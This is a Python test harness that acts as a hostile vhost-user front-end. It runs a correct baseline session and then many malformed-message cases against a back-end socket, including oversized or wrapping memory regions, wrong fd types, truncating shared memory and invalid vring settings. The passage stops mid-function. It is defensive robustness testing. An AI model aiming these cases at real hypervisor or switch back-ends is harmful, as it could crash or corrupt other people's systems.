#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""vhost_attack.py - a raw, hostile vhost-user front-end (issue 11).

Talks the vhost-user protocol to a back-end's unix socket with nothing but
the Python 3 standard library: a correct session (features, memory table,
split vrings, a tiny virtio-net driver that sends and receives frames) and a
library of attack cases, each on a fresh connection.

    vhost_attack.py --socket PATH --case NAME [--timeout S] [--hold]
    vhost_attack.py --list

Exit status: 0 the case ran (the attack being accepted or refused are both
fine: the test script asserts what the switch did); 2 the baseline/setup
case failed (the back-end refused a correct session, or no frame came back);
3 the back-end did not answer in time (baseline/setup only); 1 usage or a
bug here.

--hold: once the attack is delivered, print "HOLD" on stdout and keep every
connection and fd open until stdin reaches EOF (or --timeout runs out), then
close and exit.  The test runs its "during" checks meanwhile.

Output lines (stdout, unbuffered): "INFO ...", "RESULT key=value ...",
"HOLD", "DONE".
"""

import argparse
import errno
import fcntl
import mmap
import os
import select
import socket
import struct
import sys
import time

# --- protocol constants ------------------------------------------------------

GET_FEATURES = 1
SET_FEATURES = 2
SET_OWNER = 3
RESET_OWNER = 4
SET_MEM_TABLE = 5
SET_LOG_BASE = 6
SET_LOG_FD = 7
SET_VRING_NUM = 8
SET_VRING_ADDR = 9
SET_VRING_BASE = 10
GET_VRING_BASE = 11
SET_VRING_KICK = 12
SET_VRING_CALL = 13
SET_VRING_ERR = 14
GET_PROTOCOL_FEATURES = 15
SET_PROTOCOL_FEATURES = 16
GET_QUEUE_NUM = 17
SET_VRING_ENABLE = 18
SEND_RARP = 19
NET_SET_MTU = 20
SET_SLAVE_REQ_FD = 21
IOTLB_MSG = 22
GET_CONFIG = 24
SET_CONFIG = 25
POSTCOPY_ADVISE = 28
POSTCOPY_LISTEN = 29
POSTCOPY_END = 30
GET_INFLIGHT_FD = 31
SET_INFLIGHT_FD = 32
SET_STATUS = 39
GET_STATUS = 40

VERSION = 0x1
F_REPLY = 0x4
F_NEED_REPLY = 0x8

VIRTIO_NET_F_MRG_RXBUF = 15
VHOST_F_LOG_ALL = 26
VIRTIO_F_INDIRECT_DESC = 28
VIRTIO_F_EVENT_IDX = 29
VHOST_USER_F_PROTOCOL_FEATURES = 30
VIRTIO_F_VERSION_1 = 32
VIRTIO_F_IOMMU_PLATFORM = 33

PF_MQ = 0
PF_LOG_SHMFD = 1
PF_REPLY_ACK = 3
PF_SLAVE_REQ = 5
PF_PAGEFAULT = 8
PF_INFLIGHT_SHMFD = 12

VRING_DESC_F_NEXT = 1
VRING_DESC_F_WRITE = 2
VRING_DESC_F_INDIRECT = 4
VRING_AVAIL_F_NO_INTERRUPT = 1
VRING_NOFD = 0x100

# vIOMMU: struct vhost_iotlb_msg (u64 iova, size, uaddr; u8 perm, type; pad)
IOTLB = struct.Struct("<QQQBB6x")
IOTLB_MISS = 1
IOTLB_UPDATE = 2
IOTLB_INVALIDATE = 3
SLAVE_IOTLB_MSG = 1        # back-end -> front-end request on the slave channel
IOVA_OFF = 0x100000000     # the I/O address of guest-physical 0 (iommu cases)
PAGE = 4096

HDR = struct.Struct("<III")
NET_HDR_LEN = 12           # virtio_net_hdr_mrg_rxbuf (VERSION_1)
MAX_PAYLOAD = 4096         # generous; no request here needs more

# Guest memory layout (one memfd region of MEM_SIZE at GPA 0):
# rings in the first 64 KiB, packet buffers in the upper half so that
# shrinking the file to half its size takes the buffers away but leaves
# the rings readable.
MEM_SIZE = 2 << 20
UVA_BASE = 0x7E0000000000   # the front-end's "user address" of the region
QSZ = 256
BUF_SIZE = 2048
RING_OFF = {0: 0x0000, 1: 0x4000}  # desc at +0, avail at +0x1000, used at +0x2000
INDIRECT_OFF = 0x8000              # scratch for indirect tables / hostile chains
RX_BUF_OFF = MEM_SIZE // 2
TX_BUF_OFF = RX_BUF_OFF + QSZ * BUF_SIZE

MEMFD_NAME = "vhsw-attack"   # the test counts vhswd's mappings by this name


def out(*a):
    print(*a, flush=True)


def info(msg):
    out("INFO " + msg)


class PeerGone(Exception):
    pass


# --- one connection ---------------------------------------------------------

class Conn:
    def __init__(self, path, timeout=3.0):
        self.path = path
        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.s.settimeout(timeout)
        self.s.connect(path)
        self.timeout = timeout

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass

    def send(self, req, payload=b"", fds=(), flags=VERSION, size=None):
        """Send one message; size overrides the header's size field."""
        if size is None:
            size = len(payload)
        msg = HDR.pack(req & 0xFFFFFFFF, flags & 0xFFFFFFFF, size & 0xFFFFFFFF) + payload
        try:
            if fds:
                anc = [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                        struct.pack("%di" % len(fds), *fds))]
                n = self.s.sendmsg([msg], anc)
                if n < len(msg):
                    self.s.sendall(msg[n:])
            else:
                self.s.sendall(msg)
        except (BrokenPipeError, ConnectionResetError) as e:
            raise PeerGone(str(e))

    def _recv_exact(self, n):
        buf = b""
        while len(buf) < n:
            try:
                chunk = self.s.recv(n - len(buf))
            except ConnectionResetError as e:
                raise PeerGone(str(e))
            if not chunk:
                raise PeerGone("EOF")
            buf += chunk
        return buf

    def recv(self, timeout=None):
        """One reply: (request, flags, payload, fds).  Raises PeerGone on
        EOF, socket.timeout when nothing comes."""
        self.s.settimeout(self.timeout if timeout is None else timeout)
        fds = []
        try:
            msg, anc, _, _ = self.s.recvmsg(HDR.size, socket.CMSG_SPACE(8 * 4))
        except ConnectionResetError as e:
            raise PeerGone(str(e))
        for level, typ, data in anc:
            if level == socket.SOL_SOCKET and typ == socket.SCM_RIGHTS:
                fds += list(struct.unpack("%di" % (len(data) // 4), data[:len(data) // 4 * 4]))
        if not msg:
            raise PeerGone("EOF")
        if len(msg) < HDR.size:
            msg += self._recv_exact(HDR.size - len(msg))
        req, flags, size = HDR.unpack(msg)
        payload = self._recv_exact(size) if size else b""
        return req, flags, payload, fds

    def call(self, req, payload=b"", fds=()):
        """Request with a reply (GET_*); returns the payload."""
        self.send(req, payload, fds)
        rreq, _, p, rfds = self.recv()
        for fd in rfds:
            os.close(fd)
        if rreq != req:
            raise RuntimeError("reply to %d for request %d" % (rreq, req))
        return p

    def ack(self, req, payload=b"", fds=()):
        """Request with NEED_REPLY (REPLY_ACK negotiated): True if accepted."""
        self.send(req, payload, fds, flags=VERSION | F_NEED_REPLY)
        rreq, _, p, _ = self.recv()
        if rreq != req or len(p) < 8:
            raise RuntimeError("bad ack for request %d" % req)
        return struct.unpack("<Q", p[:8])[0] == 0

    def closed_by_peer(self, wait=0.3):
        """True if the back-end closed this connection (EOF/RST pending)."""
        try:
            r, _, _ = select.select([self.s], [], [], wait)
            if not r:
                return False
            data = self.s.recv(65536, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            if data == b"":
                return True
            # Replies are pending: drain them and look again.
            while True:
                try:
                    d = self.s.recv(65536, socket.MSG_DONTWAIT)
                except BlockingIOError:
                    return False
                if d == b"":
                    return True
        except (ConnectionResetError, BrokenPipeError):
            return True
        except OSError:
            return True


def u64(v):
    return struct.pack("<Q", v & 0xFFFFFFFFFFFFFFFF)


def vstate(index, num):
    return struct.pack("<II", index & 0xFFFFFFFF, num & 0xFFFFFFFF)


def vaddr(index, desc, used, avail, flags=0, log=0):
    # struct vhost_vring_addr: u32 index, u32 flags, u64 desc, used, avail, log
    return struct.pack("<IIQQQQ", index & 0xFFFFFFFF, flags, desc & 0xFFFFFFFFFFFFFFFF,
                       used & 0xFFFFFFFFFFFFFFFF, avail & 0xFFFFFFFFFFFFFFFF, log)


def memtable(regions, nregions=None):
    """regions: [(gpa, size, uva, offset)]; nregions overrides the count."""
    n = len(regions) if nregions is None else nregions
    p = struct.pack("<II", n & 0xFFFFFFFF, 0)
    for gpa, size, uva, off in regions:
        p += struct.pack("<QQQQ", *(x & 0xFFFFFFFFFFFFFFFF for x in (gpa, size, uva, off)))
    return p


def new_memfd(size=MEM_SIZE, name=MEMFD_NAME):
    fd = os.memfd_create(name, os.MFD_CLOEXEC)
    if size:
        os.ftruncate(fd, size)
    return fd


def mac_bytes(s):
    return bytes(int(x, 16) for x in s.split(":"))


# --- the correct front-end ---------------------------------------------------

class Session:
    """A correct vhost-user front-end with one queue pair (vrings 0, 1)."""

    def __init__(self, args, conn=None):
        self.args = args
        self.c = conn or Conn(args.socket, args.io_timeout)
        self.fds = []          # everything to close at the end
        self.mem_fd = None
        self.mm = None
        self.dead_mem = False  # memory taken away: never touch self.mm again
        self.kick = {}
        self.call = {}
        self.own_kicks = set()
        self.tx_avail = 0
        self.tx_used = 0
        self.rx_used = 0
        self.rx_avail = 0
        self.sent = 0
        self.received = 0
        self.features = 0
        self.pfeatures = 0
        self.ack_ok = False
        self.iova_off = 0      # vIOMMU: I/O address of guest-physical 0
        self.my_mac = mac_bytes(args.mac)
        self.peer_mac = mac_bytes(args.peer_mac)

    def own(self, fd):
        self.fds.append(fd)
        return fd

    def close(self):
        self.c.close()
        for fd in self.fds:
            try:
                os.close(fd)
            except OSError:
                pass
        self.fds = []
        if self.mm is not None and not self.dead_mem:
            self.mm.close()
        self.mm = None

    # Message helpers: with REPLY_ACK an ack is requested and checked.
    def msg(self, req, payload=b"", fds=(), what=None):
        if self.ack_ok:
            if not self.c.ack(req, payload, fds):
                raise RuntimeError("back-end refused %s" % (what or req))
        else:
            self.c.send(req, payload, fds)

    def negotiate(self, want=0, drop=0, pwant=0, reply_ack=True):
        offered = struct.unpack("<Q", self.c.call(GET_FEATURES))[0]
        self.offered = offered
        feats = (1 << VIRTIO_F_VERSION_1) | (1 << VHOST_USER_F_PROTOCOL_FEATURES) | want
        feats &= offered | want
        feats &= ~drop
        self.features = feats
        self.c.send(SET_FEATURES, u64(feats))
        if feats & (1 << VHOST_USER_F_PROTOCOL_FEATURES):
            poff = struct.unpack("<Q", self.c.call(GET_PROTOCOL_FEATURES))[0]
            pf = ((1 << PF_REPLY_ACK) if reply_ack else 0) | pwant
            pf &= poff
            self.pfeatures = pf
            self.c.send(SET_PROTOCOL_FEATURES, u64(pf))
            self.ack_ok = bool(pf & (1 << PF_REPLY_ACK))
        self.msg(SET_OWNER, what="SET_OWNER")

    def map_memory(self, size=MEM_SIZE, send=True):
        self.mem_fd = self.own(new_memfd(size))
        self.mm = mmap.mmap(self.mem_fd, size, mmap.MAP_SHARED,
                            mmap.PROT_READ | mmap.PROT_WRITE)
        if send:
            self.msg(SET_MEM_TABLE, memtable([(0, size, UVA_BASE, 0)]),
                     [self.mem_fd], "SET_MEM_TABLE")

    def ring_addrs(self, q):
        base = RING_OFF[q]
        return base, base + 0x1000, base + 0x2000   # desc, avail, used (GPA)

    def setup_vring(self, q, num=QSZ, kick=None, call=None, addr=None,
                    enable=True, avail_flags=VRING_AVAIL_F_NO_INTERRUPT):
        d, a, u = self.ring_addrs(q)
        self.mm[a:a + 2] = struct.pack("<H", avail_flags)
        self.msg(SET_VRING_NUM, vstate(q, num), what="SET_VRING_NUM")
        if addr is None:
            addr = vaddr(q, UVA_BASE + d, UVA_BASE + u, UVA_BASE + a)
        self.msg(SET_VRING_ADDR, addr, what="SET_VRING_ADDR")
        self.msg(SET_VRING_BASE, vstate(q, 0), what="SET_VRING_BASE")
        if kick is None:
            kick = self.own(os.eventfd(0, os.EFD_NONBLOCK | os.EFD_CLOEXEC))
            self.own_kicks.add(kick)
        if call is None:
            call = self.own(os.eventfd(0, os.EFD_NONBLOCK | os.EFD_CLOEXEC))
        self.kick[q], self.call[q] = kick, call
        self.msg(SET_VRING_KICK, u64(q), [kick], "SET_VRING_KICK")
        self.msg(SET_VRING_CALL, u64(q), [call], "SET_VRING_CALL")
        if enable and self.features & (1 << VHOST_USER_F_PROTOCOL_FEATURES):
            self.msg(SET_VRING_ENABLE, vstate(q, 1), what="SET_VRING_ENABLE")

    def setup(self, want=0, rx_kw=None, tx_kw=None, post_rx=True):
        """The whole correct sequence; RX buffers posted before enabling."""
        self.negotiate(want=want)
        self.map_memory()
        if post_rx:
            self.post_rx(QSZ)
        self.setup_vring(0, **(rx_kw or {}))
        self.setup_vring(1, **(tx_kw or {}))

    def sync(self):
        """Round trip: the back-end has handled every earlier message."""
        self.c.call(GET_FEATURES)

    # --- split-ring driver ---------------------------------------------------
    def wdesc(self, q, i, addr, length, flags=0, nxt=0):
        d = RING_OFF[q] + 16 * (i % 65536)
        addr += self.iova_off
        self.mm[d:d + 16] = struct.pack("<QIHH", addr & 0xFFFFFFFFFFFFFFFF,
                                        length & 0xFFFFFFFF, flags, nxt & 0xFFFF)

    def publish(self, q, head, idx=None):
        """Put 'head' into the avail ring of q and bump avail idx."""
        a = RING_OFF[q] + 0x1000
        cur = self.rx_avail if q == 0 else self.tx_avail
        slot = a + 4 + 2 * (cur % QSZ)
        self.mm[slot:slot + 2] = struct.pack("<H", head & 0xFFFF)
        cur = (cur + 1) & 0xFFFF if idx is None else idx & 0xFFFF
        self.mm[a + 2:a + 4] = struct.pack("<H", cur)
        if q == 0:
            self.rx_avail = cur
        else:
            self.tx_avail = cur

    def used_idx(self, q):
        u = RING_OFF[q] + 0x2000
        return struct.unpack("<H", self.mm[u + 2:u + 4])[0]

    def used_elem(self, q, i):
        u = RING_OFF[q] + 0x2000 + 4 + 8 * (i % QSZ)
        return struct.unpack("<II", self.mm[u:u + 8])

    def post_rx(self, n):
        for _ in range(n):
            slot = self.rx_avail % QSZ
            self.wdesc(0, slot, RX_BUF_OFF + slot * BUF_SIZE, BUF_SIZE, VRING_DESC_F_WRITE)
            self.publish(0, slot)

    def frame(self, seq, dst=None, size=64):
        dst = self.peer_mac if dst is None else dst
        eth = dst + self.my_mac + struct.pack(">H", 0x88B5)
        body = b"vhsw-attack" + struct.pack("<I", seq)
        return eth + body + b"\0" * max(0, size - len(eth) - len(body))

    def tx(self, fr):
        """Queue one frame on vring 1; False if the ring is full."""
        self.reap_tx()
        if (self.tx_avail - self.tx_used) & 0xFFFF >= QSZ:
            return False
        slot = self.tx_avail % QSZ
        buf = TX_BUF_OFF + slot * BUF_SIZE
        data = b"\0" * NET_HDR_LEN + fr
        self.mm[buf:buf + len(data)] = data
        self.wdesc(1, slot, buf, len(data))
        self.publish(1, slot)
        self.sent += 1
        return True

    def kick_tx(self):
        """Kick vring 1, only through an eventfd of our own that cannot
        block (a hostile kick fd given to the switch is never written)."""
        fd = self.kick.get(1)
        if fd is None or fd not in self.own_kicks:
            return
        try:
            os.eventfd_write(fd, 1)
        except OSError:
            pass

    def reap_tx(self):
        self.tx_used = self.used_idx(1)

    def rx(self):
        """Collect frames the back-end put on vring 0, repost the buffers."""
        got = []
        while self.rx_used != self.used_idx(0):
            i, ln = self.used_elem(0, self.rx_used)
            self.rx_used = (self.rx_used + 1) & 0xFFFF
            if i < QSZ and NET_HDR_LEN <= ln <= BUF_SIZE:
                b = RX_BUF_OFF + i * BUF_SIZE
                got.append(bytes(self.mm[b + NET_HDR_LEN:b + ln]))
            self.post_rx(1)
        for fr in got:
            if fr[0:6] == self.my_mac:
                self.received += 1
        return got

    def traffic(self, n, timeout):
        """Send n frames to the peer MAC; wait (bounded) for replies."""
        deadline = time.monotonic() + timeout
        seq = 0
        while seq < n and time.monotonic() < deadline:
            if self.tx(self.frame(seq)):
                seq += 1
            else:
                time.sleep(0.001)
            self.rx()
        self.kick_tx()
        while self.received < n and time.monotonic() < deadline:
            self.rx()
            time.sleep(0.002)
        return self.received


# --- hold / result helpers ----------------------------------------------------

def hold(args, conns=()):
    """Keep everything open until stdin EOF (or the timeout)."""
    if not args.hold:
        return
    out("HOLD")
    deadline = time.monotonic() + args.timeout
    fd = sys.stdin.fileno()
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            info("hold: timeout")
            break
        r, _, _ = select.select([fd], [], [], min(left, 1.0))
        if r:
            try:
                if not os.read(fd, 4096):
                    break
            except OSError:
                break


def report_closed(args, c):
    """RESULT closed_by_switch=yes|no for connection c (no bytes sent)."""
    closed = c.closed_by_peer(args.settle)
    out("RESULT closed_by_switch=%s" % ("yes" if closed else "no"))
    return closed


def alive_probe(c, timeout=1.0):
    """Send GET_FEATURES; 'answered', 'closed' or 'silent'."""
    try:
        c.send(GET_FEATURES)
        while True:
            req, _, _, fds = c.recv(timeout)
            for fd in fds:
                os.close(fd)
            if req == GET_FEATURES:
                return "answered"
    except PeerGone:
        return "closed"
    except (socket.timeout, TimeoutError):
        return "silent"
    except OSError:
        return "closed"


CASES = {}


def case(name, doc):
    def deco(fn):
        CASES[name] = (fn, doc)
        return fn
    return deco


def simple_attack(args, prepare, attack, probe=True, hold_it=True, session=None):
    """Fresh connection (a Session, or the given session class):
    prepare(sess) (correct part), attack(sess, c) (hostile part), then
    report whether the switch closed us, hold, close."""
    s = (session or Session)(args)
    try:
        if prepare:
            prepare(s)
        try:
            attack(s, s.c)
        except PeerGone as e:
            info("peer gone during attack: %s" % e)
        except (socket.timeout, TimeoutError):
            info("no reply during attack (timeout)")
        except RuntimeError as e:
            info("refused: %s" % e)
        closed = report_closed(args, s.c)
        if probe and not closed:
            out("RESULT probe=%s" % alive_probe(s.c))
        if hold_it:
            hold(args)
    finally:
        s.close()


def prep_owner(s):
    s.negotiate()


def prep_mem(s):
    s.negotiate()
    s.map_memory()


def prep_full(s, want=0):
    s.setup(want=want)
    s.sync()


# --- baseline / setup ---------------------------------------------------------

@case("baseline", "correct session: port up, N frames to --peer-mac, replies received")
def c_baseline(args):
    s = Session(args)
    try:
        try:
            s.setup()
            s.sync()
        except (PeerGone, RuntimeError, socket.timeout, TimeoutError) as e:
            out("RESULT setup=failed reason=%s" % e)
            return 2
        got = s.traffic(args.frames, args.timeout / 2)
        out("RESULT setup=ok sent=%d received=%d" % (s.sent, got))
        hold(args)
        return 0 if got > 0 else 2
    finally:
        s.close()


@case("setup", "correct session, no traffic: exit 3 if the back-end does not answer in time")
def c_setup(args):
    s = Session(args)
    try:
        s.setup()
        s.sync()
        out("RESULT setup=ok")
        hold(args)
        return 0
    except (socket.timeout, TimeoutError):
        out("RESULT setup=timeout")
        return 3
    except (PeerGone, RuntimeError) as e:
        out("RESULT setup=failed reason=%s" % e)
        return 2
    finally:
        s.close()


# --- memory tables -------------------------------------------------------------

def mem_case(name, doc, regions_fn, fds_fn, full=True, nregions=None, ring_gpa=None):
    """SET_MEM_TABLE with hostile regions/fds, then (full) the rest of a
    correct setup, with the rings at ring_gpa if given, and some traffic,
    so that a mapping the switch accepted gets touched."""
    def run(args):
        def attack(s, c):
            fds = fds_fn(s)
            regs = regions_fn(s)
            s.c.send(SET_MEM_TABLE, memtable(regs, nregions), fds)
            if s.c.closed_by_peer(0.2):
                raise PeerGone("closed after SET_MEM_TABLE")
            if not full:
                return
            if ring_gpa is not None:
                # Rings placed where the (bogus) region says they are.
                for q in (0, 1):
                    base = ring_gpa + (q * 0x4000)
                    c.send(SET_VRING_NUM, vstate(q, QSZ))
                    c.send(SET_VRING_ADDR, vaddr(q, UVA_BASE + base, UVA_BASE + base + 0x2000,
                                                 UVA_BASE + base + 0x1000))
                    c.send(SET_VRING_BASE, vstate(q, 0))
                    c.send(SET_VRING_KICK, u64(q), [s.own(os.eventfd(0, os.EFD_NONBLOCK))])
                    c.send(SET_VRING_CALL, u64(q), [s.own(os.eventfd(0, os.EFD_NONBLOCK))])
                    c.send(SET_VRING_ENABLE, vstate(q, 1))
            else:
                for q in (0, 1):
                    d, a, u = s.ring_addrs(q)
                    c.send(SET_VRING_NUM, vstate(q, QSZ))
                    c.send(SET_VRING_ADDR, vaddr(q, UVA_BASE + d, UVA_BASE + u, UVA_BASE + a))
                    c.send(SET_VRING_BASE, vstate(q, 0))
                    c.send(SET_VRING_KICK, u64(q), [s.own(os.eventfd(0, os.EFD_NONBLOCK))])
                    c.send(SET_VRING_CALL, u64(q), [s.own(os.eventfd(0, os.EFD_NONBLOCK))])
                    c.send(SET_VRING_ENABLE, vstate(q, 1))
            c.call(GET_FEATURES)

        simple_attack(args, lambda s: s.negotiate(reply_ack=False), attack)
    CASES[name] = (run, doc)


def _memfd(s, size=MEM_SIZE):
    return s.own(new_memfd(size))


def _pipe_r(s):
    r, w = os.pipe()
    s.own(w)
    return s.own(r)


def _sock(s):
    a, b = socket.socketpair()
    s.own(b.detach())
    return s.own(a.detach())


def _rofile(s):
    path = "/tmp/vhsw-attack-ro.%d" % os.getpid()
    with open(path, "wb") as f:
        f.write(b"\0" * MEM_SIZE)
    fd = os.open(path, os.O_RDONLY)
    os.unlink(path)
    return s.own(fd)


R1 = lambda s: [(0, MEM_SIZE, UVA_BASE, 0)]  # noqa: E731

mem_case("mem_size_gt_fd", "region of 16 MiB on a 2 MiB memfd, rings at 8 MiB (past EOF)",
         lambda s: [(0, 16 << 20, UVA_BASE, 0)], lambda s: [_memfd(s)], ring_gpa=8 << 20)
mem_case("mem_offset_gt_fd", "mmap_offset 4 MiB beyond a 2 MiB memfd",
         lambda s: [(0, MEM_SIZE, UVA_BASE, 4 << 20)], lambda s: [_memfd(s)])
mem_case("mem_fd_pipe", "region fd is a pipe", R1, lambda s: [_pipe_r(s)])
mem_case("mem_fd_socket", "region fd is a socket", R1, lambda s: [_sock(s)])
mem_case("mem_fd_dir", "region fd is a directory (O_RDONLY|O_DIRECTORY)", R1,
         lambda s: [s.own(os.open("/tmp", os.O_RDONLY | os.O_DIRECTORY))])
mem_case("mem_fd_devnull", "region fd is /dev/null", R1,
         lambda s: [s.own(os.open("/dev/null", os.O_RDWR))])
mem_case("mem_fd_rofile", "region fd is a read-only regular file", R1, lambda s: [_rofile(s)])
mem_case("mem_zero_size", "region of size 0", lambda s: [(0, 0, UVA_BASE, 0)],
         lambda s: [_memfd(s)])
mem_case("mem_overlap_gpa", "two regions, same guest-physical range",
         lambda s: [(0, MEM_SIZE, UVA_BASE, 0), (0x1000, MEM_SIZE, UVA_BASE + (1 << 30), 0)],
         lambda s: [_memfd(s), _memfd(s)])
mem_case("mem_overlap_uva", "two regions, same user-address range",
         lambda s: [(0, MEM_SIZE, UVA_BASE, 0), (1 << 30, MEM_SIZE, UVA_BASE + 0x1000, 0)],
         lambda s: [_memfd(s), _memfd(s)])
mem_case("mem_gpa_wrap", "guest_phys_addr+size wraps past 2^64",
         lambda s: [(0xFFFFFFFFFFFFF000, MEM_SIZE, UVA_BASE, 0)], lambda s: [_memfd(s)])
mem_case("mem_uva_wrap", "userspace_addr+size wraps past 2^64",
         lambda s: [(0, MEM_SIZE, 0xFFFFFFFFFFFFF000, 0)], lambda s: [_memfd(s)])
mem_case("mem_offset_wrap", "mmap_offset+size wraps past 2^64",
         lambda s: [(0, MEM_SIZE, UVA_BASE, 0xFFFFFFFFFFFFF000)], lambda s: [_memfd(s)])
mem_case("mem_size_huge", "region size 2^63 on a 2 MiB memfd",
         lambda s: [(0, 1 << 63, UVA_BASE, 0)], lambda s: [_memfd(s)])
mem_case("mem_more_fds", "1 region, 3 fds", R1, lambda s: [_memfd(s), _memfd(s), _memfd(s)])
mem_case("mem_fewer_fds", "2 regions, 1 fd",
         lambda s: [(0, MEM_SIZE, UVA_BASE, 0), (1 << 30, MEM_SIZE, UVA_BASE + (1 << 30), 0)],
         lambda s: [_memfd(s)])
mem_case("mem_no_fd", "1 region, no fd", R1, lambda s: [])
mem_case("mem_nregions0", "nregions = 0, no fds", lambda s: [], lambda s: [])
mem_case("mem_nregions9", "nregions = 9 (max 8) with 8 regions and 8 fds",
         lambda s: [(i << 30, 0x1000, UVA_BASE + (i << 30), 0) for i in range(8)],
         lambda s: [_memfd(s, 0x1000) for _ in range(8)], nregions=9)
mem_case("mem_nregions_huge", "nregions = 0xffffffff, one region, one fd", R1,
         lambda s: [_memfd(s)], nregions=0xFFFFFFFF)


@case("mem_shrink_zero", "correct setup, frames flowing both ways, ftruncate(memfd, 0)")
def c_shrink_zero(args):
    _shrink(args, 0)


@case("mem_shrink_half", "correct setup, frames flowing, ftruncate(memfd, size/2) "
      "(packet buffers gone, rings left), then publish frames and RX buffers")
def c_shrink_half(args):
    _shrink(args, MEM_SIZE // 2)


def _shrink(args, size):
    s = Session(args)
    try:
        s.setup()
        s.sync()
        got = s.traffic(min(args.frames, 64), 3)
        info("before shrink: sent=%d received=%d" % (s.sent, got))
        # Frames and RX buffers ready in the upper half before it goes.
        for i in range(32):
            s.tx(s.frame(1000 + i))
        if size:
            # Queue more TX descriptors pointing at the (soon gone) upper
            # half without publishing them yet; publish after the truncate
            # (rings in the lower half stay writable).
            pending = []
            for i in range(64):
                slot = (s.tx_avail + i) % QSZ
                buf = TX_BUF_OFF + slot * BUF_SIZE
                data = b"\0" * NET_HDR_LEN + s.frame(2000 + i)
                s.mm[buf:buf + len(data)] = data
                s.wdesc(1, slot, buf, len(data))
                pending.append(slot)
        os.ftruncate(s.mem_fd, size)
        info("memfd truncated to %d" % size)
        if size:
            a = RING_OFF[1] + 0x1000
            for slot in pending:
                p = a + 4 + 2 * (s.tx_avail % QSZ)
                s.mm[p:p + 2] = struct.pack("<H", slot)
                s.tx_avail = (s.tx_avail + 1) & 0xFFFF
            s.mm[a + 2:a + 4] = struct.pack("<H", s.tx_avail)
            s.kick_tx()
        s.dead_mem = True  # the attacker itself must not touch the mapping now
        report_closed(args, s.c)
        hold(args)
    finally:
        s.close()


@case("mem_replace", "correct setup and traffic, then SET_MEM_TABLE with a new memfd")
def c_replace(args):
    s = Session(args)
    try:
        s.setup()
        s.sync()
        s.traffic(16, 3)
        fd2 = s.own(new_memfd(MEM_SIZE))
        try:
            s.c.send(SET_MEM_TABLE, memtable([(0, MEM_SIZE, UVA_BASE, 0)]), [fd2],
                     flags=VERSION | F_NEED_REPLY)
            _, _, p, _ = s.c.recv()
            info("replace ack=%s" % (p.hex() if p else "-"))
            s.sync()
        except (PeerGone, socket.timeout, TimeoutError) as e:
            info("replace: %s" % e)
        report_closed(args, s.c)
        hold(args)
    finally:
        s.close()


@case("mem_replace_loop", "correct setup, then 300 SET_MEM_TABLE with fresh memfds")
def c_replace_loop(args):
    s = Session(args)
    try:
        s.setup()
        s.sync()
        try:
            for i in range(300):
                fd = new_memfd(MEM_SIZE)
                s.c.send(SET_MEM_TABLE, memtable([(0, MEM_SIZE, UVA_BASE + (i << 22), 0)]), [fd])
                os.close(fd)
            s.sync()
        except (PeerGone, socket.timeout, TimeoutError) as e:
            info("replace loop: %s" % e)
        report_closed(args, s.c)
        hold(args)
    finally:
        s.close()


# --- vrings ----------------------------------------------------------------------

def vring_num_case(name, nums):
    def run(args):
        def attack(s, c):
            for n in nums:
                c.send(SET_VRING_NUM, vstate(0, n))
            d, a, u = s.ring_addrs(0)
            c.send(SET_VRING_ADDR, vaddr(0, UVA_BASE + d, UVA_BASE + u, UVA_BASE + a))
            c.send(SET_VRING_BASE, vstate(0, 0))
            c.send(SET_VRING_KICK, u64(0), [s.own(os.eventfd(0, os.EFD_NONBLOCK))])
            c.send(SET_VRING_CALL, u64(0), [s.own(os.eventfd(0, os.EFD_NONBLOCK))])
            c.send(SET_VRING_ENABLE, vstate(0, 1))
            s.ack_ok = False
            s.setup_vring(1)
            c.call(GET_FEATURES)
        simple_attack(args, lambda s: (s.negotiate(reply_ack=False), s.map_memory()), attack)
    CASES[name] = (run, "SET_VRING_NUM %s on vring 0, then the rest of a setup" %
                   " then ".join(str(n) for n in nums))


vring_num_case("vring_num_0", [0])
vring_num_case("vring_num_3", [3])
vring_num_case("vring_num_65536", [0x10000])
vring_num_case("vring_num_32769", [32769])
vring_num_case("vring_num_256_then_0", [256, 0])


def vring_addr_case(name, doc, fn):
    def run(args):
        def attack(s, c):
            s.setup_vring(1)
            d, a, u = s.ring_addrs(0)
            c.send(SET_VRING_NUM, vstate(0, QSZ))
            c.send(SET_VRING_ADDR, fn(UVA_BASE + d, UVA_BASE + a, UVA_BASE + u))
            c.send(SET_VRING_BASE, vstate(0, 0))
            c.send(SET_VRING_KICK, u64(0), [s.own(os.eventfd(0, os.EFD_NONBLOCK))])
            c.send(SET_VRING_CALL, u64(0), [s.own(os.eventfd(0, os.EFD_NONBLOCK))])
            c.send(SET_VRING_ENABLE, vstate(0, 1))
            c.call(GET_FEATURES)
        simple_attack(args, lambda s: (s.negotiate(reply_ack=False), s.map_memory()), attack)
    CASES[name] = (run, doc)


vring_addr_case("vring_addr_outside", "desc/avail/used addresses outside every region",
                lambda d, a, u: vaddr(0, 0x1000000000, 0x1000002000, 0x1000001000))
vring_addr_case("vring_addr_partial", "desc table straddles the end of the region",
                lambda d, a, u: vaddr(0, UVA_BASE + MEM_SIZE - 16, u, a))
vring_addr_case("vring_addr_used_partial", "used ring straddles the end of the region",
                lambda d, a, u: vaddr(0, d, UVA_BASE + MEM_SIZE - 8, a))
vring_addr_case("vring_addr_unaligned", "desc/avail/used at odd addresses",
                lambda d, a, u: vaddr(0, d + 1, u + 1, a + 1))
vring_addr_case("vring_addr_wrap", "desc address near 2^64",
                lambda d, a, u: vaddr(0, 0xFFFFFFFFFFFFFFF0, u, a))
vring_addr_case("vring_addr_log", "SET_VRING_ADDR with the LOG flag and a log address outside",
                lambda d, a, u: vaddr(0, d, u, a, flags=1, log=0xFFFFFFFFFFFF0000))


@case("vring_index_big", "vring index 5, 200, 255, 256, 0xffff, 0xffffffff in SET_VRING_NUM/"
      "ADDR/BASE/KICK/CALL/ERR/ENABLE and GET_VRING_BASE (one connection per request)")
def c_vring_index(args):
    held = []
    try:
        for idx in (5, 200, 255, 256, 0xFFFF, 0xFFFFFFFF):
            for req in (SET_VRING_NUM, SET_VRING_ADDR, SET_VRING_BASE, SET_VRING_KICK,
                        SET_VRING_CALL, SET_VRING_ERR, SET_VRING_ENABLE, GET_VRING_BASE):
                s = Session(args)
                held.append(s)
                try:
                    s.negotiate(reply_ack=False)
                    s.map_memory()
                    if req == SET_VRING_NUM:
